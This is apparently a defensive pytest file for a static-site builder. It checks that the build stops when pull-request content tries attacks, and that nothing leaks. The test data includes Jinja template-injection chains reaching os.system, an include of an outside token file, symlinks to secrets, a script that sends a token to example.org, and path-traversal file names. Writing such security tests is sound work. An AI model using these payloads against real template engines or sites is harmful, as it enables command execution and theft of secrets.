"""What somebody could try from a fork, or in a pull request: a command in a page, a link to a file outside, an exit script of their own.

Each stops the build, and nothing of the last good site is touched.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from projects import put_last_good, reviewmap, tiny_project, tree
from reviewmap.site.sync import sync, write_files

TOKEN = "a-token-that-lies-outside"
PAGE = "---\ntitle: Help\ndescription: Who can help.\naudience: family\n---\n{}\n"


def command(folder: Path, outside: Path) -> None:
    """Runs where pages are run instead of filled in: it would make a file."""
    ways = (
        f"{{{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['os'].system('touch {outside}/was-run') }}}}",
        f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch {outside}/was-run') }}}}",
        f"{{{{ role.__globals__['__builtins__'].open('{outside}/was-run', 'w') }}}}",
        f"{{% include '{outside}/token' %}}",
        "{{ config }}",
    )
    (folder / "help").mkdir(parents=True, exist_ok=True)
    (folder / "help/index.md").write_text(PAGE.format("\n\n".join(ways)))


def link(folder: Path, outside: Path) -> None:
    (folder / "help").mkdir(parents=True, exist_ok=True)
    (folder / "help/token.txt").symlink_to(outside / "token")
    (folder / "outside").symlink_to(outside)


def exit_script(folder: Path, outside: Path) -> None:
    (folder / "assets/js").mkdir(parents=True)
    (folder / "assets/js/exit.js").write_text(f"location = 'https://example.org/?{TOKEN}'")


@pytest.mark.parametrize("attack", [command, link, exit_script])
@pytest.mark.parametrize("where", ["content", "local/content"])
def test_an_attack_stops_the_build_and_reaches_nothing(tmp_path: Path, where: str, attack: Callable[[Path, Path], None]) -> None:
    project, outside = tiny_project(tmp_path / "project"), tmp_path / "outside"
    outside.mkdir()
    (outside / "token").write_text(TOKEN)
    (project / "local").mkdir()
    (project / "local/edition.yml").write_text("partnership: P\narea: A\n")
    put_last_good(project)
    attack(project / where, outside)
    before = tree(project / "site")
    ran = reviewmap(project, "build", "--local", "local")
    assert ran.code == 1 and f"{where}/" in ran.err, ran.err
    assert TOKEN not in ran.err and "our mistake" not in ran.err
    assert tree(project / "site") == before and sorted(path.name for path in outside.iterdir()) == ["token"]
    made = [path for path in (project / "build").rglob("*") if path.is_file()]
    assert not any(TOKEN.encode() in path.read_bytes() for path in made)


@pytest.mark.parametrize("write", [sync, write_files])
@pytest.mark.parametrize("name", ["../was-written", "docs/../../was-written", "/was-written"])
def test_whatever_a_files_name_was_made_of_nothing_is_written_outside(tmp_path: Path, write: Callable[..., object], name: str) -> None:
    with pytest.raises(ValueError, match="leads out of"):
        write({name if name[0] != "/" else f"{tmp_path}{name}": b"X"}, tmp_path / "build")
    assert not (tmp_path / "was-written").exists()
